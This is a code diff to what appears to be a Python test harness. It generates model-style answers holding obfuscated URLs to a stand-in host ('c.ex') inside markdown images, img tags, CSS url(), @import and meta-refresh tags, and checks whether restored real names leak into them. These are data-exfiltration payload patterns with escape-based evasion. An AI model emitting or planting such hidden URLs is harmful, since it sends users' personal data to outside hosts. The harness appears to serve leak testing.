@@ -144,6 +144,19 @@ HIDDEN: Final = (
 """Answers with a URL to a host that nobody named, hidden in escapes that one reader or another reads."""
 
 
+_HIDING_PLACES: Final = (
+    ("![](", ")", ("?n=", "/")),
+    ("![](<", ">)", ("?n=", "/a b ")),
+    ('<img src="', '">', ("?n=", "/a b ", "/a>b ", "/a'b ")),
+    ("<img src=' \n", "'>", ("?n=", "/a b ", "/a>b ")),
+    ('<p style="a:url(', ')">', ("?n=", "/")),
+    ('<style>@import "', '";</style>', ("?n=", "/a b ", "/a>b ")),
+    ('<meta http-equiv=refresh content="0;', '">', ("?n=", "/a b ", "/a>b ", "/a'b ")),
+    ("<meta http-equiv=refresh content=\"0; url='", "'\">", ("?n=", "/a b ", "/a>b ")),
+)
+"""What begins and ends a URL, and what it may go on with behind its host."""
+
+
 class Answer(NamedTuple):
     """An answer, and whether its URL is one of the named host."""
 
@@ -247,15 +260,45 @@ def restored(restorer: Restorer, text: str, rng: random.Random) -> str:
     return "".join([*parts, stream.close()])
 
 
-def hidden(seed: int, in_urls: InUrls = "named-hosts") -> list[str]:
-    """The hidden URLs into which an original goes, whole or as a stream."""
+def _hidden_character(character: str, rng: random.Random) -> str:
+    """A character as one reader or another decodes it, perhaps behind what another leaves out."""
+    code, zeros, backslashes = ord(character), "0" * rng.choice((0, 1, 4, 5, 6, 9)), "\\" * rng.randrange(1, 4)
+    return rng.choice(
+        (
+            f"&#{zeros}{code};",
+            f"&#x{zeros}{code:x};",
+            f"&amp;amp;#{code};",
+            f"{backslashes}u{code:04x}",
+            f"{backslashes}x{code:02x}",
+            f"\\{code:x} ",
+            f"\\{code:06x}",
+            f"&#92;{code:x} ",
+            "\t" * rng.randrange(9) + character,
+            "&Tab;" * rng.randrange(9) + character,
+            "&#10;\r" * rng.randrange(5) + character,
+            f"\\{character}",
+            f"%{code:02x}",
+        )
+    )
+
+
+def hidden_at_random(rng: random.Random) -> str:
+    """An answer with a URL to a host that nobody named, hidden in escapes at random; ``{}`` is in it for a name."""
+    begin, end, rest = rng.choice(_HIDING_PLACES)
+    start = rng.choice(("https://", "https:", "http:", "//", "ws:", "\\\\", "/\\"))
+    start = "".join(_hidden_character(each, rng) if rng.random() < 0.35 else each for each in start)
+    host = rng.choice(("c.ex", f"localhost\\@{NAMED}.c.ex", f"{NAMED}\\.c.ex"))
+    return f"{rng.choice(('', 'So&#8217; '))}{begin}{start}{host}{rng.choice(rest)}{{}}{end} Bye."
+
+
+def hidden(seed: int, answers: int, in_urls: InUrls = "named-hosts") -> list[str]:
+    """The hidden URLs, those of the list and so many at random, into which an original goes, whole or as a stream."""
     rng, restorer = random.Random(seed), Restorer((MAP, MAP), in_urls=in_urls)
     found = []
-    for form in HIDDEN:
-        for name in (SURROGATES[1], "Anna Miller", "Anna%20Miller"):
-            answer = form.replace("{}", name)
-            for text in (restorer.restore(answer).text, restored(restorer, answer, rng)):
-                found += [text] if any(original in text for original in ORIGINALS) else []
+    for form in (*HIDDEN, *(hidden_at_random(rng) for _ in range(answers))):
+        answer = form.replace("{}", rng.choice((SURROGATES[1], "Anna Miller", "Anna%20Miller")))
+        for text in (restorer.restore(answer).text, restored(restorer, answer, rng)):
+            found += [text] if any(original in text for original in ORIGINALS) else []
     return found
 
 
@@ -287,8 +330,8 @@ def main() -> None:
     parser.add_argument("--seed", type=int, default=1)
     told = parser.parse_args()
     outcome = attack(told.answers, told.seed)
-    unseen = hidden(told.seed)
-    for text in [*unseen, *outcome.leaks[:10]]:
+    unseen = hidden(told.seed, told.answers)
+    for text in [*unseen[:10], *outcome.leaks[:10]]:
         print(repr(text))
     print(
         f"{told.answers} answers: {len(outcome.leaks)} leaks, {len(unseen)} of hidden URLs; "
